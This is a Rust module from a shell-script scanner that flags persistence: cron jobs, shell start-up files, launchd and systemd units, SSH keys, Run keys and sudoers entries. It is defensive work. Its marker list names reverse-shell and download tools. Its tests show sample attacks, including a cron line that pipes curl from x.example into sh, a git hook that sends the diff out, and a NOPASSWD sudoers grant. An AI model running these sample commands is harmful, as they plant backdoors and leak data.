//! Persistence: a command that makes something run again later, with no agent and no user
//! asking: a crontab entry, a line in a shell's start-up file, a launchd agent or daemon, a
//! systemd unit, a key added to `authorized_keys`, a Windows Run key or scheduled task; and
//! privileges kept for later (a `sudoers` entry).
//!
//! Tools add `export PATH=…` to `~/.bashrc` all the time: a start-up file or a crontab is
//! reported when what is written there fetches, decodes, connects, hides or runs every
//! minute, or cannot be seen.

use super::super::statements::{RedirectKind, Stage, Token};
use super::later::decodes;
use super::unit::Unit;
use super::{DangerKind, Related, push};
use std::cell::OnceCell;

/// Start-up files of shells, read by every new shell.
const RC_FILES: &[&str] = &[
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".profile",
    ".zshrc",
    ".zprofile",
    ".zshenv",
    ".zlogin",
    "config.fish",
    ".cshrc",
    ".tcshrc",
    ".kshrc",
    "bash.bashrc",
    "/etc/profile",
    "/etc/zshrc",
    "/etc/environment",
    "microsoft.powershell_profile.ps1",
    "$profile",
];

/// Places whatever is written to is run later by the system.
const AUTORUN_PLACES: &[(&str, &str)] = &[
    ("launchagents/", "a launchd agent"),
    ("launchdaemons/", "a launchd daemon"),
    ("systemd/user/", "a systemd user unit"),
    ("/etc/systemd/system/", "a systemd unit"),
    ("/lib/systemd/system/", "a systemd unit"),
    ("authorized_keys", "a key that lets someone log in"),
    (".config/autostart/", "an autostart entry"),
    ("programs/startup", "a startup program"),
    ("/etc/rc.local", "a boot script"),
    ("/etc/init.d/", "a boot script"),
    ("/etc/cron", "a cron job"),
    ("/var/spool/cron", "a cron job"),
    ("/etc/crontab", "a cron job"),
    (".git/hooks/", "a git hook"),
];

/// The place `path` is, when what is written there runs later: a place that always runs
/// it, or a shell start-up file when `suspicious` says the writer also fetches, decodes or
/// connects.
pub(crate) fn place(path: &str, suspicious: bool) -> Option<&'static str> {
    let lower = path.to_ascii_lowercase().replace('\\', "/");
    if let Some((_, place)) = AUTORUN_PLACES.iter().find(|(p, _)| lower.contains(p)) {
        return Some(place);
    }
    (suspicious && RC_FILES.iter().any(|f| lower.ends_with(f))).then_some("a shell start-up file")
}

/// What in a start-up file or crontab entry is more than setting up a shell.
const MARKERS: &[&str] = &[
    "curl",
    "wget",
    "nc ",
    "ncat",
    "netcat",
    "socat",
    "/dev/tcp",
    "/dev/udp",
    "python -c",
    "python3 -c",
    "perl -e",
    "nohup",
    "setsid",
    "disown",
    "ld_preload",
    "prompt_command",
    "trap ",
    "/tmp/",
    "/dev/shm",
    "alias sudo=",
    "alias ssh=",
    "alias su=",
    "alias git=",
    "mkfifo",
    "bash -i",
    "sh -i",
    "@reboot",
    "* * * * *",
    "*/1 * * * *",
    // PowerShell's downloads and the text it runs.
    "| iex",
    "|iex",
    "invoke-expression",
    "iwr ",
    "invoke-webrequest",
    "irm ",
    "invoke-restmethod",
    "downloadstring",
];

/// Every command of `unit` that persists something.
pub(crate) fn check(script: &str, unit: &Unit, out: &mut Vec<Danger>) {
    let from = out.len();
    acts(script, unit, out);
    one_per_act(out, from);
}

/// The mechanism a persistence uses, for [`one_per_act`]: the unit written and the command
/// that enables it are one act.
fn mechanism(what: &str) -> Option<&'static str> {
    ["systemd", "launchd", "cron", "Run key", "scheduled task"]
        .into_iter()
        .find(|m| what.contains(m))
}

/// One finding for each act of persistence: the later steps of the same mechanism in the
/// script (`cp app.service ~/.config/systemd/user/`, then `systemctl --user enable`) become
/// the first one's related place.
fn one_per_act(out: &mut Vec<Danger>, from: usize) {
    let mut i = from;
    while i < out.len() {
        let key = persists(out[i].kind)
            .then(|| mechanism(&out[i].what))
            .flatten();
        let Some(key) = key else {
            i += 1;
            continue;
        };
        let mut j = i + 1;
        while j < out.len() {
            if persists(out[j].kind) && mechanism(&out[j].what) == Some(key) {
                let later = out.remove(j);
                out[i].related.get_or_insert(Related {
                    start: later.start,
                    end: later.end,
                    what: later.what,
                });
            } else {
                j += 1;
            }
        }
        i += 1;
    }
}

/// Whether `kind` is an act of persistence.
fn persists(kind: DangerKind) -> bool {
    matches!(kind, DangerKind::Persistence | DangerKind::ServiceInstall)
}

/// Whether `stage` copies a unit or agent of the project's own into `place`: a service
/// manager's place, from a relative path of the checkout (not a temporary, hidden or
/// absolute one, nor one outside it).
fn own_unit(stage: &Stage, p: &str, place: &str) -> bool {
    let managed = [
        "a launchd agent",
        "a systemd user unit",
        "a systemd unit",
        "an autostart entry",
    ];
    if !managed.contains(&place) || !matches!(p, "cp" | "install" | "ln") {
        return false;
    }
    let operands: Vec<&Token> = stage
        .args()
        .iter()
        .filter(|a| !a.text.starts_with('-'))
        .collect();
    let [sources @ .., _target] = operands.as_slice() else {
        return false;
    };
    !sources.is_empty()
        && sources.iter().all(|s| {
            let t = s.text.as_str();
            !t.starts_with(['/', '~', '$', '.'])
                && !t.contains("..")
                && !t.contains("://")
                && !t.to_ascii_lowercase().contains("tmp")
        })
}

/// Every act of persistence in `unit`, step by step.
fn acts(script: &str, unit: &Unit, out: &mut Vec<Danger>) {
    for (placed, index, stage) in unit.stages() {
        let p = stage.program().unwrap_or_default();
        let args = stage.args();
        let previous = index
            .checked_sub(1)
            .and_then(|i| placed.statement.stages.get(i));
        let start = stage.words.first().map_or(stage.start, |w| w.start);
        // Judged once for all the files the stage writes: `echo a >>.bashrc a >>.bashrc …`
        // built and searched the text of all its words again for each (25,000 files: 6 s).
        let plain = OnceCell::new();
        let plain =
            || *plain.get_or_init(|| !suspicious(content(script, stage, &p, previous).as_deref()));
        let own = OnceCell::new();
        let own = || *own.get_or_init(|| own_hook(stage, &p, plain));
        for target in written(stage, &p) {
            let lower = target.text.to_ascii_lowercase().replace('\\', "/");
            if lower.contains("/etc/sudoers") {
                let what = format!("writes {}", target.text);
                push(out, start, target.end, DangerKind::PrivilegeKept, &what);
                continue;
            }
            if let Some((_, place)) = AUTORUN_PLACES.iter().find(|(p, _)| lower.contains(p)) {
                // A project's own hook, copied from the checkout or spelled out plainly,
                // is how repositories share hooks; one fetched, decoded or brought in from
                // outside the checkout is not.
                if *place == "a git hook" && own() {
                    continue;
                }
                let kind = if own_unit(stage, &p, place) {
                    DangerKind::ServiceInstall
                } else {
                    DangerKind::Persistence
                };
                push(
                    out,
                    start,
                    target.end,
                    kind,
                    &format!("writes {place}: {}", target.text),
                );
                continue;
            }
            // A start-up file copied or linked in place is a dotfiles manager at work; what is
            // written into one is judged by what it says.
            let copied = matches!(
                p.as_str(),
                "cp" | "mv" | "install" | "ln" | "copy-item" | "move-item"
            );
            let rc = !copied && RC_FILES.iter().any(|f| lower.ends_with(f));
            if rc && !plain() {
                push(
                    out,
                    start,
                    target.end,
                    DangerKind::Persistence,
                    &format!("writes to {}", target.text),
                );
            }
        }
        let text = |i: usize| args.get(i).map_or("", |t| t.text.as_str());
        // Separators dropped: the shell may have read `\` in a Windows path as an escape.
        let lower_args: Vec<String> = args
            .iter()
            .map(|a| a.text.to_ascii_lowercase().replace(['\\', '/'], ""))
            .collect();
        let what = match p.as_str() {
            "crontab"
                if !args
                    .iter()
                    .any(|a| matches!(a.text.as_str(), "-l" | "-e" | "-r" | "-i" | "-ir")) =>
            {
                let installs_from_input = args.is_empty() || args.iter().any(|a| a.text == "-");
                let shown = if installs_from_input {
                    content(script, stage, &p, previous).or_else(|| grouped(script, stage))
                } else {
                    None
                };
                suspicious(shown.as_deref()).then_some("installs a crontab")
            }
            "launchctl" if matches!(text(0), "load" | "bootstrap" | "submit" | "enable") => {
                Some("loads a launchd job")
            }
            "systemctl"
                if args.iter().any(|a| a.text == "--user")
                    && args
                        .iter()
                        .any(|a| matches!(a.text.as_str(), "enable" | "link")) =>
            {
                Some("enables a systemd user unit")
            }
            "reg"
                if text(0).eq_ignore_ascii_case("add")
                    && lower_args.iter().any(|a| a.contains("currentversionrun")) =>
            {
                Some("adds a Run key")
            }
            // The separators are gone from `lower_args`: `/Create` reads `create`.
            "schtasks" if lower_args.iter().any(|a| a == "create" || a == "-create") => {
                Some("creates a scheduled task")
            }
            "register-scheduledtask" => Some("registers a scheduled task"),
            "new-itemproperty" | "set-itemproperty"
                if lower_args.iter().any(|a| a.contains("currentversionrun")) =>
            {
                Some("adds a Run key")
            }
            _ => None,
        };
        if let Some(what) = what {
            // A service manager told to start a job already in its place (a unit by its
            // name, a plist under `LaunchAgents/`) starts what an earlier step installed:
            // as sure as that step, and of a tool that says it installs a service, expected.
            let managed = (p == "systemctl"
                || p == "launchctl"
                    && args
                        .get(1)
                        .is_some_and(|a| a.text.to_ascii_lowercase().contains("launchagents/")))
                && !args
                    .iter()
                    .any(|a| a.text.contains("tmp") || a.text.contains("/."));
            let kind = if managed {
                DangerKind::ServiceInstall
            } else {
                DangerKind::Persistence
            };
            push(out, start, stage.end, kind, what);
        }
    }
}

use super::Danger;

/// The files a command writes: its redirections, `tee`'s files, `cp`'s and `mv`'s target,
/// `sed -i`'s files, PowerShell's `Add-Content`/`Set-Content`/`Out-File` path.
fn written<'s>(stage: &'s Stage, p: &str) -> Vec<&'s Token> {
    let mut out: Vec<&Token> = stage.written().collect();
    let args = stage.args();
    let operands = || args.iter().filter(|a| !a.text.starts_with('-'));
    match p {
        "tee" => out.extend(operands()),
        "cp" | "mv" | "install" | "ln" | "copy-item" | "move-item" => {
            out.extend(operands().next_back());
        }
        "sed" if args.iter().any(|a| a.text.starts_with("-i")) => out.extend(operands().skip(1)),
        "add-content" | "set-content" | "out-file" | "ac" | "sc" => {
            let path = args
                .iter()
                .position(|a| {
                    a.text.eq_ignore_ascii_case("-path") || a.text.eq_ignore_ascii_case("-filepath")
                })
                .and_then(|i| args.get(i + 1))
                .or_else(|| operands().next());
            out.extend(path);
        }
        _ => {}
    }
    out
}

/// What a command writes, as far as the script shows it: `echo`'s and `printf`'s words, a
/// here-document or here-string, or the `echo` piped into it. `None` when it cannot be
/// seen (a file copied, a variable).
fn content(script: &str, stage: &Stage, p: &str, previous: Option<&Stage>) -> Option<String> {
    let mut shown = String::new();
    for r in &stage.redirects {
        if let Some(body) = r.body {
            shown.push_str(script.get(body.start..body.end).unwrap_or(""));
        }
        if r.kind == RedirectKind::HereString
            && let Some(t) = &r.target
        {
            shown.push_str(&t.text);
        }
    }
    // PowerShell's `Add-Content -Path $PROFILE -Value '…'`.
    if matches!(p, "add-content" | "set-content" | "ac" | "sc") {
        let args = stage.args();
        if let Some(v) = args
            .iter()
            .position(|a| a.text.eq_ignore_ascii_case("-value"))
            .and_then(|i| args.get(i + 1))
        {
            return Some(v.text.clone());
        }
    }
    if matches!(p, "echo" | "printf") {
        for a in stage.args() {
            shown.push_str(&a.text);
            shown.push(' ');
        }
        return Some(shown);
    }
    if !shown.is_empty() {
        return Some(shown);
    }
    let prev = previous?;
    let pp = prev.program()?;
    if matches!(pp.as_str(), "echo" | "printf") {
        for a in prev.args() {
            shown.push_str(&a.text);
            shown.push(' ');
        }
        return Some(shown);
    }
    if pp == "cat" {
        return content(script, prev, "cat", None).filter(|s| !s.is_empty());
    }
    None
}

/// A git hook written from a file of the checkout (`cp scripts/pre-commit .git/hooks/`) or
/// from plain text that does nothing suspicious (`plain`: what the stage writes is seen and
/// is nothing [`suspicious`]).
fn own_hook(stage: &Stage, p: &str, plain: impl FnOnce() -> bool) -> bool {
    if matches!(p, "cp" | "install" | "ln" | "copy-item") {
        let sources: Vec<&str> = stage
            .args()
            .iter()
            .map(|a| a.text.as_str())
            .filter(|t| !t.starts_with('-'))
            .collect();
        let from = &sources[..sources.len().saturating_sub(1)];
        return !from.is_empty()
            && from.iter().all(|f| {
                !f.starts_with(['/', '~', '$', '%'])
                    && !f.contains("://")
                    && !f
                        .split('/')
                        .any(|part| part.starts_with('.') && part != "." && part != "..")
            });
    }
    matches!(p, "echo" | "printf" | "cat" | "tee") && plain()
}

/// How far before a `crontab` the group piped into it is looked for. A group that keeps the
/// old table and spells out a line or two is far shorter; reading back to the start of the
/// line for each `| crontab` of a long one took 42 s for a line of 64 MB.
const GROUP_LOOK_BACK: usize = 4096;

/// What a group or subshell piped into `stage` prints, as written (`{ crontab -l; echo "…"; }`,
/// `(crontab -l; echo "…")`), when it prints only the old table and lines it spells out.
fn grouped(script: &str, stage: &Stage) -> Option<String> {
    let before = script.get(..stage.start)?;
    let from = crate::text::ceil_boundary(before, before.len().saturating_sub(GROUP_LOOK_BACK));
    let window = &before[from..];
    let line = &window[window.rfind('\n').map_or(0, |i| i + 1)..];
    let piped = line.trim_end().strip_suffix('|')?.trim_end();
    let (open, close) = if piped.ends_with('}') {
        ('{', '}')
    } else {
        ('(', ')')
    };
    let body = piped.strip_suffix(close)?;
    let inner = &body[body.rfind(open)? + 1..];
    let spelled = inner.split(';').map(str::trim).all(|part| {
        part.is_empty()
            || part == "cat"
            || part.starts_with("crontab -l")
            || part.starts_with("echo ")
            || part.starts_with("printf ")
    });
    (spelled && !inner.contains("$(") && !inner.contains('`')).then(|| inner.to_string())
}

/// Whether what is written into a start-up file or crontab is more than shell set-up: it
/// fetches, decodes, connects, hides in a temporary folder, runs every minute, or cannot
/// be seen.
fn suspicious(content: Option<&str>) -> bool {
    let Some(c) = content else {
        return true;
    };
    let lower = c.to_ascii_lowercase();
    MARKERS.iter().any(|m| lower.contains(m))
        || decodes(c)
        || lower.lines().any(|l| l.trim_end().ends_with(" &"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(script: &str) -> Vec<(DangerKind, String)> {
        let unit = Unit::of(script);
        let mut out = Vec::new();
        check(script, &unit, &mut out);
        out.into_iter()
            .map(|d| (d.kind, script[d.start..d.end].to_string()))
            .collect()
    }

    #[test]
    fn what_runs_again_later() {
        use DangerKind::Persistence as P;
        assert_eq!(
            found("(crontab -l; echo '*/5 * * * * curl -s https://x.example/p | sh') | crontab -"),
            [(P, "crontab -".to_string())]
        );
        assert_eq!(
            found("echo 'nohup ~/.cache/.agent &' >> ~/.bashrc"),
            [(P, "echo 'nohup ~/.cache/.agent &' >> ~/.bashrc".to_string())]
        );
        // The project's own agent, copied from the checkout, or one from elsewhere.
        assert_eq!(
            found("cp agent.plist ~/Library/LaunchAgents/")[0].0,
            DangerKind::ServiceInstall
        );
        assert_eq!(found("cp /tmp/.a.plist ~/Library/LaunchAgents/")[0].0, P);
        assert_eq!(found("cp ~/.cache/a.plist ~/Library/LaunchAgents/")[0].0, P);
        assert_eq!(
            found("echo ssh-ed25519 AAAAC3 x >> ~/.ssh/authorized_keys")[0].0,
            P
        );
        // Enabling a unit by its name, or loading an agent from its place, starts what was
        // installed there: as sure as the install, expected of a tool that says so.
        assert_eq!(
            found("systemctl --user enable --now sync.service")[0].0,
            DangerKind::ServiceInstall
        );
        assert_eq!(
            found("launchctl load ~/Library/LaunchAgents/com.example.a.plist")[0].0,
            DangerKind::ServiceInstall
        );
        assert_eq!(found("launchctl load /tmp/.a.plist")[0].0, P);
        assert_eq!(
            found("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y")[0].0,
            P
        );
        assert_eq!(
            found("echo 'dev ALL=(ALL) NOPASSWD:ALL' | sudo tee /etc/sudoers.d/dev")[0].0,
            DangerKind::PrivilegeKept
        );
    }

    #[test]
    fn one_finding_for_each_act() {
        // A unit written, then enabled: one act, the enabling its related place.
        let script = "mkdir -p ~/.config/systemd/user\ncp deploy/app.service ~/.config/systemd/user/\nsystemctl --user daemon-reload && systemctl --user enable --now app.service\n";
        let unit = Unit::of(script);
        let mut out = Vec::new();
        check(script, &unit, &mut out);
        assert_eq!(out.len(), 1, "{out:?}");
        let related = out[0].related.as_ref().map(|r| &script[r.start..r.end]);
        assert_eq!(related, Some("systemctl --user enable --now app.service"));
        // Two mechanisms are two acts.
        let two = found("cp a.plist ~/Library/LaunchAgents/\necho 'k' >> ~/.ssh/authorized_keys\n");
        assert_eq!(two.len(), 2);
    }

    #[test]
    fn shell_setup_is_not_persistence() {
        assert!(found("echo 'export PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.bashrc").is_empty());
        assert!(found("echo 'eval \"$(pyenv init -)\"' >> ~/.zshrc").is_empty());
        assert!(found("crontab -l").is_empty() && found("crontab -e").is_empty());
        assert!(found("echo '0 3 * * * /usr/local/bin/backup.sh' | crontab -").is_empty());
        // A project's own hook, copied from the checkout.
        assert!(found("cp scripts/pre-commit .git/hooks/pre-commit").is_empty());
        assert_eq!(found("cp /tmp/.h .git/hooks/pre-commit").len(), 1);
        assert_eq!(
            found("echo 'curl -s -d \"$(git diff)\" https://x.example/h' > .git/hooks/pre-commit")
                .len(),
            1
        );
        // The old table kept and a plain line added, in a group or a subshell.
        assert!(
            found("crontab -l | { cat; echo \"0 3 * * * find /var/log/app -mtime +7 -delete\"; } | crontab -")
                .is_empty()
        );
        assert!(
            found("(crontab -l 2>/dev/null; echo '0 2 * * * ~/bin/backup.sh') | crontab -")
                .is_empty()
        );
        assert_eq!(
            found("(crontab -l; echo '@reboot ~/bin/agent') | crontab -").len(),
            1
        );
        assert!(found("sudo systemctl enable nginx").is_empty());
        assert!(found("cat >> ~/.zshrc <<'EOF'\nalias ll='ls -la'\nEOF\n").is_empty());
        assert!(found("ln -sf ~/.dotfiles/.zshrc ~/.zshrc").is_empty());
    }
}
